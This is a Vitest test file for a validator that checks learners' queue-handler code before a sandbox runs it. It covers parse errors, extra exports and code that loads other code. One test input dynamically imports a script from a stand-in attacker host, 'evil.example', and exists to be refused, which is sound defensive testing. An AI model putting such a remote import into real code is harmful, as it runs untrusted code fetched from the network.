// What the server takes as a learner's queue handler, and the body the browser's host runs.
import { describe, expect, it } from 'vitest';
import { NO_QUEUE_HANDLER_MESSAGE, readHandlerSource } from './handler-source';

const HANDLER = `const seen = new Set();
function key(message) { return message.body.eventId; }
export default {
  async queue(batch, env) { for (const message of batch.messages) seen.add(key(message)); },
};
`;

describe('readHandlerSource', () => {
  it('gives a body that returns the default export, as the sandbox compiles it', async () => {
    const source = readHandlerSource(HANDLER);
    if (!('body' in source)) throw new Error(source.problem);
    const handler = (await new Function(`return (async () => {${source.body}})()`)()) as {
      queue: unknown;
    };
    expect(typeof handler.queue).toBe('function');
  });

  it('names the line of code that does not parse', () => {
    expect(readHandlerSource('export default {\n  async queue( {\n}')).toEqual({
      problem: expect.stringMatching(/^Your handler does not parse: .* at line \d+, column \d+$/),
    });
  });

  it.each([
    ["import { connect } from 'cloudflare:sockets';\n", 'an import', 1],
    ["const lib = await import('https://evil.example/x.js');\n", 'import()', 1],
    ['\nconst where = import.meta.url;\n', 'import.meta', 2],
  ])('refuses code that loads other code: %s', (line, what, at) => {
    const problem = readHandlerSource(line + HANDLER);
    expect(problem).toEqual({
      problem: expect.stringContaining(`Your handler uses ${what}`),
    });
    expect(problem).toEqual({ problem: expect.stringContaining(`at line ${at}, column`) });
  });

  it('refuses a named export and code with no queue method', () => {
    expect(readHandlerSource(`export const x = 1;\n${HANDLER}`)).toEqual({
      problem: expect.stringContaining('exports more than its default'),
    });
    expect(readHandlerSource('export default { fetch() {} };')).toEqual({
      problem: NO_QUEUE_HANDLER_MESSAGE,
    });
  });
});
